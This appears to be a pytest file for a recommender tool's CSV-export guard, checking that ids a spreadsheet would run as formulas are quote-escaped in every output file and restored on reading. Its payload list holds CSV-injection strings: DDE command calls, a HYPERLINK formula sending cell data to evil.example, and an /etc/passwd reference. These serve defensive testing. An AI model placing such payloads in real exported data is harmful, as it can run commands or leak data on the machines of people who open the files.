"""Ids that a spreadsheet would run as a formula: marked in every CSV file, and the same ids again when it is read."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import Cli
from fedrec.data import read_table
from fedrec.data.spreadsheet import guard, unguard
from fedrec.serve import Recommender, read_history

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|x!A",
    "-2+3+cmd|x!A",
    "=1+1",
    "='file:///etc/passwd'#$a.A1",
    "＝1+1",
    "'=1+1",
    "''@a(b)",
    "\t=1+1",
]
HARMLESS = [
    "@alice",
    "-0dNq9xFkVw",
    "_x",
    "+49171234",
    "+49 171 234",
    "-5",
    "-1.5e-3",
    "1e+5",
    "=x",
    "a=b(c)",
    "'quoted'",
    "'",
    "x@mail.example",
    "--",
    "- a title -",
    "(=1)",
    "",
]
PROTOCOL = ("--protocol", "honest,ks=3,select_metric=ndcg@3,min_interactions=3")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked(text: str) -> None:
    assert guard(text) == "'" + text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_ids_stay_as_they_are(text: str) -> None:
    assert guard(text) == text == unguard(text)


@given(st.text(alphabet="'=+-@ \t(|!ab1.", max_size=8) | st.text())
def test_nothing_is_lost(text: str) -> None:
    assert unguard(guard(text)) == text


def test_numbers_are_no_text() -> None:
    assert [guard(value) for value in (-5, -0.25, None)] == [-5, -0.25, None]


def spread(path: Path, items: list[str]) -> None:
    """As somebody's program writes it: nothing is marked."""
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["user", "item"])
        writer.writerows((f"=u{u}(1)", items[(u * 7 + k * k) % len(items)]) for u in range(20) for k in range(8))


def cells(path: Path) -> set[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return {cell for row in csv.reader(file) for cell in row}


def test_every_file_that_is_written(cli: Cli, tmp_path: Path) -> None:
    ids = [f"=cmd|' /C calc{i}'!A0" for i in range(10)] + [f"-harmless{i}" for i in range(20)]
    spread(tmp_path / "mine.csv", ids)
    (tmp_path / "items.csv").write_text("item,title,tags\n" + "".join(f'"{i}","=1+{n}",a\n' for n, i in enumerate(ids)))
    run = ("run", "fedmf", "--data", "mine.csv", *PROTOCOL, "--rounds", "2", "--set", "dim=2", "--quiet")
    assert cli(*run, "--attributes", "items.csv", "--out", "run").code == 0
    path = tmp_path / "run" / "summary.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"method": "=1+1"}))
    assert cli("recommend", "run", "--all", "-k", "3", "--out", "recs.csv").code == 0
    assert cli("compare", "run", "--no-references", "--out", "table.csv").code == 0
    assert cli("data", "split", "mine.csv", *PROTOCOL, "--out", "split").code == 0
    assert cli("data", "import", "mine.csv", "--name", "kept").code == 0
    found = [
        *tmp_path.glob("run/*.csv"),
        *tmp_path.glob("split/*.csv"),
        tmp_path / "recs.csv",
        tmp_path / "table.csv",
        tmp_path / "cache" / "imported" / "kept.csv",
    ]
    assert len(found) == 9
    for file in found:
        assert any(cell.startswith("'=") for cell in cells(file)), file
        assert all(cell.startswith("'") or guard(cell) == cell for cell in cells(file)), file
    assert cells(tmp_path / "run" / "items.csv") >= {"-harmless1"}
    assert cli("report", "run").code == 0  # which finds its users in per_user.csv
    assert "=u" in (tmp_path / "run" / "report.html").read_text()
    assert cli("recommend", "run", "--user", "=u3(1)").code == 0
    assert cli(*run[:2], "--data", "kept", *run[4:], "--out", "again").code == 0
    assert Recommender("again").user_ids.tolist() == Recommender("run").user_ids.tolist()


def test_files_are_read_as_they_were_meant(tmp_path: Path) -> None:
    """Marked or not; the one column of a history too."""
    ids = ["=1+1", "'=1+1", "@a|b", "plain"]
    for name, write in (("plain", str), ("marked", guard)):
        lines = [f"u,{write(item)}" for item in ids if name == "marked" or not item.startswith("'")]
        (tmp_path / f"{name}.csv").write_text("\n".join(["user,item", *lines]) + "\n")
    assert read_table(tmp_path / "marked.csv")[0].item_ids.tolist() == sorted(ids)
    assert read_table(tmp_path / "plain.csv")[0].item_ids.tolist() == sorted(set(ids) - {"'=1+1"})
    (tmp_path / "history.csv").write_text("item\n'=1+1\nplain\n")
    assert read_history(tmp_path / "history.csv") == {"new": ["=1+1", "plain"]}


def test_scores_for_the_audit_name_the_same_items(cli: Cli, tmp_path: Path) -> None:
    rows = [(f"=u{u}(1)", f"=i{(u * 7 + k * k) % 30}(1)") for u in range(20) for k in range(8)]
    rows = list(dict.fromkeys(rows))
    for name, part in (("train", rows[::2]), ("test", rows[1::2])):
        (tmp_path / f"{name}.csv").write_text("user,item\n" + "".join(f"{u},{i}\n" for u, i in part))
    scored = [f"{guard(u)},{guard(i)},0.{n}\n" for n, (u, i) in enumerate(rows)]
    (tmp_path / "scores.csv").write_text("user,item,score\n" + "".join(scored))
    plain = [line.replace("'", "") for line in scored]
    (tmp_path / "plain.csv").write_text("user,item,score\n" + "".join(plain))
    words = ("audit", "leak", "--train", "train.csv", "--test", "test.csv", "--json", "--scores")
    found = [cli(*words, file) for file in ("scores.csv", "plain.csv")]
    assert found[0] == found[1]
